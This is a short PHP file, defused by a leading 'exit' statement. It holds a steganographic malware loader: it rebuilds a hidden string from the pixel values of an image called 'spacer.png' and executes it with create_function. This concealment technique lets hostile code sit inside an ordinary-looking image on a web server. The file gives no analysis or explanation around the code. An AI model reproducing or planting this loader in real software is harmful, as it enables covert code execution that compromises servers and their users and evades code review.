<?php exit; /* inert */ 
$im = imagecreatefrompng('img/spacer.png');
$s = '';
for ($y = 0, $h = imagesy($im); $y < $h; $y++) for ($x = 0, $w = imagesx($im); $x < $w; $x++) $s .= chr(imagecolorat($im, $x, $y) & 0xff);
$s = rtrim($s, "\0");
$fn = create_function('', $s); $fn();
